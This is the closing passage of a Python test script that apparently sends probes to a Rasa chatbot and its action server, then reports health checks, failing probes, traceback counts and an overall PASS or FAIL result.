        ("Rasa healthy at the end (GET /webhooks/rest/)", rasa_ok),
        ("action server healthy at the end (GET /health)", actions_ok),
        ("Rasa still answers a message at the end", still_answers),
    ):
        print(f"{'ok  ' if ok else 'FAIL'} {label}")
    for o in (five_xx + unanswered + bypass)[:5]:
        print(
            f"  e.g. {o.probe.channel}/{o.probe.kind}/{o.probe.category}: {o.status} {o.error[:200]} "
            f"body {o.probe.body[:120]!r} args {str(o.probe.args)[:120]}"
        )
    if traceback_kinds:
        print(table("tracebacks by the exception that ends them", traceback_kinds, 110))
    if first_traceback:
        print("first traceback:\n" + first_traceback)
    failed = any(v for _, v in checks) or not (rasa_ok and actions_ok and still_answers)
    print("RESULT:", "FAIL" if failed else "PASS")
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
